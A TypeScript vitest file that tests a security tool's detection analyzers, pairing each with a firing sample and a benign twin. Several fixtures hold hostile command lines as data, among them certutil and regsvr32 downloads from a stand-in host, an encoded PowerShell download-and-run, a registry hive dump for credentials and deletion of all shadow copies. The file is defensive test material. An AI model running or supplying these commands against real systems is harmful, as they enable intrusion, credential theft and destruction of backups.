import { describe, expect, test } from 'vitest'
import { ticksFromIso } from '#base/ticks.ts'
import type { Files } from '../support/evidence-case.ts'
import { analyze, analyzerIds, exportOf } from '../support/gathered.ts'

type Row = Record<string, string | number>

const at = (minute: number, second = 0) => new Date(Date.UTC(2026, 2, 2, 8, minute, second)).toISOString()

/** A process start on ws-01, with what the test says of it. */
const start = (row: Row, device = 'ws-01.corp.example'): Row => ({
  Timestamp: at(0),
  DeviceId: device.slice(0, 5),
  DeviceName: device,
  ActionType: 'ProcessCreated',
  ProcessId: 400,
  ProcessCreationTime: at(0),
  InitiatingProcessFileName: 'explorer.exe',
  ...row,
})
const processes = (...rows: Row[]): Files =>
  exportOf(
    'DeviceProcessEvents',
    rows.map((row) => start(row)),
  )

const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64')
const system32 = 'C:\\Windows\\System32'

const acting = (row: Row): Row => ({
  Timestamp: at(1),
  DeviceId: 'ws-01',
  DeviceName: 'ws-01.corp.example',
  InitiatingProcessId: 400,
  InitiatingProcessCreationTime: at(0),
  InitiatingProcessFileName: 'rundll32.exe',
  InitiatingProcessCommandLine: 'rundll32.exe',
  ...row,
})

const runValue = (data: string): Files =>
  exportOf('DeviceRegistryEvents', [
    acting({
      ActionType: 'RegistryValueSet',
      RegistryKey: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      RegistryValueName: 'Updater',
      RegistryValueData: data,
    }),
  ])

const task = (command: string, args: string): Files =>
  exportOf('DeviceEvents', [
    acting({
      ActionType: 'ScheduledTaskCreated',
      AdditionalFields: JSON.stringify({
        TaskName: '\\Update',
        TaskContent: `<?xml version="1.0"?><Task><Source>cmd.exe</Source><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Task>`,
      }),
    }),
  ])

const opened = (access: number): Files =>
  exportOf('DeviceEvents', [
    acting({
      ActionType: 'OpenProcessApiCall',
      FileName: 'lsass.exe',
      InitiatingProcessFolderPath: 'C:\\Temp\\x.exe',
      AdditionalFields: JSON.stringify({ DesiredAccess: access }),
    }),
  ])

/** Calls to one destination at those seconds. */
const calls = (seconds: readonly number[]): Files =>
  exportOf(
    'DeviceNetworkEvents',
    seconds.map((second) =>
      acting({
        Timestamp: at(1, second),
        ActionType: 'ConnectionSuccess',
        RemoteIP: '203.0.113.9',
        RemotePort: 443,
        RemoteUrl: 'sync.bad.example',
      }),
    ),
  )

/** One connection and one written file, and what an intelligence table says of something. */
const met: Files = {
  ...exportOf('DeviceNetworkEvents', [
    acting({ ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.9', RemotePort: 443, RemoteUrl: 'https://sync.bad.example/put' }),
  ]),
  ...exportOf('DeviceFileEvents', [
    acting({ ActionType: 'FileCreated', FileName: 'a.dll', FolderPath: 'C:\\Users\\kim\\a.dll', SHA256: 'ab'.repeat(32) }),
  ]),
}
const indicator = (row: Row): Files => ({
  ...met,
  ...exportOf('ThreatIntelligenceIndicator', [
    { TimeGenerated: at(0), Active: 'true', ConfidenceScore: 90, Description: 'Loader of 2026', ...row },
  ]),
})
const observable = (row: Row): Files => ({
  ...met,
  ...exportOf('ThreatIntelIndicators', [
    { TimeGenerated: at(0), IsActive: 'true', Confidence: 80, Data: '{"type":"indicator","name":"Loader"}', ...row },
  ]),
})

const signIn = (day: number, country: string, more: Row = {}): Row => ({
  Timestamp: new Date(Date.UTC(2026, 2, day, 8)).toISOString(),
  AccountUpn: 'kim@corp.example',
  AccountObjectId: '11111111-2222-3333-4444-555555555555',
  IPAddress: '198.51.100.7',
  Country: country,
  ErrorCode: 0,
  ...more,
})
const signIns = (...rows: Row[]): Files => exportOf('EntraIdSignInEvents', rows)
const habits = [8, 9, 10, 11, 12, 13].map((day) => signIn(day, 'SE'))

const clicked = (more: Row): Files =>
  exportOf('UrlClickEvents', [
    { Timestamp: at(0), AccountUpn: 'kim@corp.example', Url: 'https://pay.example/login', NetworkMessageId: '', ...more },
  ])

const logons = (...rows: Row[]): Files =>
  exportOf(
    'DeviceLogonEvents',
    rows.map((row) => ({
      Timestamp: at(0),
      DeviceId: 'ws-01',
      DeviceName: 'ws-01.corp.example',
      AccountName: 'kim',
      AccountDomain: 'corp',
      LogonType: 'Network',
      RemoteIP: '10.0.0.9',
      ...row,
    })),
  )
const eightFailures = (): Row[] => [1, 2, 3, 4, 5, 6, 7, 8].map((minute) => ({ ActionType: 'LogonFailed', Timestamp: at(minute) }))
/** Failures of five accounts that name no address, each at its moment. */
const fiveFromDevice = (when: (place: number) => string): Row[] =>
  [0, 1, 2, 3, 4].map((place) => ({
    ActionType: 'LogonFailed',
    AccountName: `user${place}`,
    RemoteIP: '',
    RemoteDeviceName: 'WS-01',
    Timestamp: when(place),
  }))

const mail = (more: Row): Files =>
  exportOf('EmailEvents', [
    {
      Timestamp: at(0),
      NetworkMessageId: '99999999-2222-3333-4444-555555555555',
      Subject: 'Invoice',
      SenderFromAddress: 'billing@corp.example',
      RecipientEmailAddress: 'kim@corp.example',
      EmailDirection: 'Inbound',
      DeliveryAction: 'Delivered',
      ...more,
    },
  ])

const fiveDevices = (path: string, onAll: boolean): Files =>
  exportOf(
    'DeviceProcessEvents',
    [1, 2, 3, 4, 5].map((n) =>
      start(
        {
          FileName: 'tool.exe',
          FolderPath: path,
          SHA256: (n === 1 || onAll ? 'a' : String(n)).repeat(64),
          ProcessVersionInfoCompanyName: 'Maker',
        },
        `ws-0${n}.corp.example`,
      ),
    ),
  )

const twins: readonly { analyzer: string; title: string; fires: Files; benign: Files }[] = [
  {
    analyzer: 'signature-path',
    title: 'System program outside its folder',
    fires: processes({ FileName: 'svchost.exe', FolderPath: 'C:\\Users\\kim\\svchost.exe' }),
    benign: processes({ FileName: 'svchost.exe', FolderPath: `${system32}\\svchost.exe` }),
  },
  {
    analyzer: 'signature-path',
    title: 'Renamed program',
    fires: processes({
      FileName: 'update.exe',
      FolderPath: 'C:\\Apps',
      ProcessVersionInfoOriginalFileName: 'rclone.exe',
      ProcessVersionInfoCompanyName: 'x',
    }),
    benign: processes({
      FileName: 'powershell.exe',
      FolderPath: `${system32}\\WindowsPowerShell\\v1.0`,
      ProcessVersionInfoOriginalFileName: 'PowerShell.EXE',
    }),
  },
  {
    analyzer: 'lolbin',
    title: 'Download by certutil',
    fires: processes({ FileName: 'certutil.exe', ProcessCommandLine: 'certutil -urlcache -f http://bad.example/a a.exe' }),
    benign: processes({ FileName: 'certutil.exe', ProcessCommandLine: 'certutil -hashfile report.pdf SHA256' }),
  },
  {
    analyzer: 'lolbin',
    title: 'Scriptlet run by regsvr32',
    fires: processes({ FileName: 'regsvr32.exe', ProcessCommandLine: 'regsvr32 /s /n /u /i:http://bad.example/x.sct scrobj.dll' }),
    benign: processes({ FileName: 'regsvr32.exe', ProcessCommandLine: 'regsvr32 /s C:\\Windows\\System32\\msxml6.dll' }),
  },
  {
    analyzer: 'parent-child',
    title: 'Shell started by an Office program',
    fires: processes({ FileName: 'cmd.exe', ProcessCommandLine: 'cmd /c whoami', InitiatingProcessFileName: 'WINWORD.EXE' }),
    benign: processes({ FileName: 'splwow64.exe', ProcessCommandLine: 'splwow64.exe 12288', InitiatingProcessFileName: 'WINWORD.EXE' }),
  },
  {
    analyzer: 'encoded-command',
    title: 'Encoded command line',
    fires: processes({
      FileName: 'powershell.exe',
      ProcessCommandLine: `powershell -enc ${encoded("iex (New-Object Net.WebClient).DownloadString('http://bad.example/a')")}`,
    }),
    benign: processes({ FileName: 'powershell.exe', ProcessCommandLine: 'powershell -File C:\\Scripts\\inventory.ps1' }),
  },
  {
    analyzer: 'rare-in-case',
    title: 'Program seen on one device only',
    fires: fiveDevices('C:\\Users\\kim\\Downloads\\tool.exe', false),
    benign: fiveDevices('C:\\Users\\kim\\Downloads\\tool.exe', true),
  },
  {
    analyzer: 'persistence',
    title: 'Program started at logon (Run key)',
    fires: runValue('C:\\Users\\kim\\AppData\\Roaming\\x\\x.exe'),
    benign: runValue('"C:\\Program Files\\Maker\\tray.exe" /background'),
  },
  {
    analyzer: 'persistence',
    title: 'Scheduled task',
    fires: task('C:\\Windows\\System32\\cmd.exe', '/c C:\\x.bat'),
    benign: task('C:\\Program Files\\Maker\\update.exe', '/quiet'),
  },
  {
    analyzer: 'credential-access',
    title: 'Account database saved from the registry',
    fires: processes({ FileName: 'reg.exe', ProcessCommandLine: 'reg save HKLM\\SYSTEM C:\\x.hiv' }),
    benign: processes({
      FileName: 'reg.exe',
      ProcessCommandLine: 'reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Wlansvc w.reg /y',
    }),
  },
  { analyzer: 'credential-access', title: 'Memory of lsass opened for reading', fires: opened(0x1410), benign: opened(0x1000) },
  {
    analyzer: 'credential-access',
    title: 'All shadow copies deleted',
    fires: processes({ FileName: 'vssadmin.exe', ProcessCommandLine: 'vssadmin delete shadows /all /quiet' }),
    benign: processes({ FileName: 'vssadmin.exe', ProcessCommandLine: 'vssadmin list shadows' }),
  },
  {
    analyzer: 'network',
    title: 'Calls as regular as a beacon',
    fires: calls([0, 60, 120, 181, 240, 300, 359, 420, 480]),
    benign: calls([0, 7, 95, 120, 300, 310, 700, 1400, 1480]),
  },
  {
    analyzer: 'sign-in',
    title: 'Sign-in from a new country',
    fires: signIns(...habits, signIn(20, 'BR')),
    benign: signIns(...habits, signIn(20, 'SE')),
  },
  {
    analyzer: 'sign-in',
    title: 'Impossible travel',
    fires: signIns(
      signIn(19, 'SE', { Latitude: 57.7, Longitude: 11.9 }),
      signIn(19, 'SG', { Timestamp: '2026-03-19T08:30:00Z', Latitude: 1.35, Longitude: 103.8 }),
    ),
    benign: signIns(signIn(19, 'SE', { Latitude: 57.7, Longitude: 11.9 }), signIn(20, 'SG', { Latitude: 1.35, Longitude: 103.8 })),
  },
  {
    analyzer: 'mail-authentication',
    title: 'Sender could not be authenticated',
    fires: mail({ AuthenticationDetails: '{"SPF":"fail","DKIM":"none","DMARC":"fail"}' }),
    benign: mail({ AuthenticationDetails: '{"SPF":"pass","DKIM":"pass","DMARC":"pass"}' }),
  },
  {
    analyzer: 'intel',
    title: 'Named by threat intelligence',
    fires: indicator({ NetworkIP: '203.0.113.9' }),
    benign: indicator({ NetworkIP: '203.0.113.9', Active: 'false' }),
  },
  {
    analyzer: 'intel',
    title: 'Named by threat intelligence',
    fires: indicator({ DomainName: 'SYNC.bad.example' }),
    benign: indicator({ DomainName: 'bad.example' }),
  },
  {
    analyzer: 'intel',
    title: 'Named by threat intelligence',
    fires: observable({ ObservableKey: "file:hashes.'SHA-256'", ObservableValue: 'AB'.repeat(32) }),
    benign: observable({ ObservableKey: "file:hashes.'SHA-256'", ObservableValue: 'AB'.repeat(32), Revoked: 'true' }),
  },
  {
    analyzer: 'intel',
    title: 'Named by threat intelligence that is weak or expired',
    fires: indicator({ Url: 'https://sync.bad.example/put/', ExpirationDateTime: '2026-01-01T00:00:00Z' }),
    benign: indicator({ Url: 'https://sync.bad.example/get' }),
  },
  {
    analyzer: 'click',
    title: 'Link rated as phish was opened',
    fires: clicked({ ActionType: 'ClickAllowed', ThreatTypes: 'Phish' }),
    benign: clicked({ ActionType: 'ClickBlocked', ThreatTypes: 'Phish' }),
  },
  {
    analyzer: 'click',
    title: 'Warning was clicked away',
    fires: clicked({ ActionType: 'ClickBlockedByTenantPolicy', IsClickedThrough: 'true' }),
    benign: clicked({ ActionType: 'ClickAllowed' }),
  },
  {
    analyzer: 'logon',
    title: 'Logon after many failures',
    fires: logons(...eightFailures(), { ActionType: 'LogonSuccess', Timestamp: at(9) }),
    benign: logons(...eightFailures().slice(1), { ActionType: 'LogonSuccess', Timestamp: at(9) }),
  },
  {
    analyzer: 'logon',
    title: 'Remote desktop from the Internet',
    fires: logons({ ActionType: 'LogonSuccess', LogonType: 'RemoteInteractive', RemoteIP: '203.0.113.7' }),
    benign: logons({ ActionType: 'LogonSuccess', LogonType: 'RemoteInteractive', RemoteIP: '10.0.0.7' }),
  },
  {
    analyzer: 'logon',
    title: 'Many accounts tried from one address',
    fires: logons(...eightFailures().map((row, place) => ({ ...row, AccountName: `user${place}` }))),
    benign: logons(...eightFailures().map((row, place) => ({ ...row, AccountName: `user${place}`, Timestamp: at(place * 20) }))),
  },
  {
    analyzer: 'logon',
    title: 'Many accounts tried from one device',
    fires: logons(...fiveFromDevice((place) => at(1, place))),
    benign: logons(...fiveFromDevice((place) => at(place))),
  },
]

describe.each(twins)('$analyzer: $title', ({ analyzer, title, fires, benign }) => {
  const scope = analyzer === 'sign-in' ? { from: ticksFromIso('2026-03-18T00:00:00Z')! } : {}

  test('is found, and cites the rows it was judged by', async () => {
    const found = await analyze(fires, scope)
    expect(found.titles(analyzer)).toContain(title)
    for (const finding of found.findings(analyzer)) expect(finding.rows.length).toBeGreaterThan(0)
  })

  test('is not found in its benign twin, which was judged', async () => {
    const found = await analyze(benign, scope)
    expect(found.titles(analyzer)).toEqual([])
    expect(found.outcome(analyzer).outcome).toBe('answered')
    expect([...found.gathered.subjects.all].length).toBeGreaterThan(0)
  })
})

test('an analyzer whose tables are empty answers Unknown and says what would fill them', async () => {
  const found = await analyze(mail({}))
  expect(found.outcome('network')).toMatchObject({
    outcome: 'unknown',
    said: expect.stringContaining('DeviceNetworkEvents is not in this evidence'),
  })
  const others = await analyze(processes({ FileName: 'cmd.exe' }))
  expect(others.outcome('mail-authentication')).toMatchObject({ outcome: 'unknown', said: expect.stringContaining('EmailEvents') })
  expect(others.outcome('sign-in').outcome).toBe('unknown')
})

test('what most of the case’s devices run is part of their day', async () => {
  const command = `powershell -enc ${encoded('Get-CimInstance Win32_Product')}`
  const everywhere = exportOf(
    'DeviceProcessEvents',
    [1, 2, 3, 4, 5].map((n) => start({ FileName: 'powershell.exe', ProcessCommandLine: command }, `ws-0${n}.corp.example`)),
  )
  expect((await analyze(everywhere)).findings('encoded-command')).toEqual([])
  expect((await analyze(processes({ FileName: 'powershell.exe', ProcessCommandLine: command }))).titles('encoded-command')).toEqual([
    'Encoded command line',
  ])
})

test('every analyzer has a firing and a benign twin', () => {
  const tested = new Set([...twins.map((twin) => twin.analyzer), 'malicious-alert'])
  expect(analyzerIds.filter((id) => !tested.has(id))).toEqual([])
})
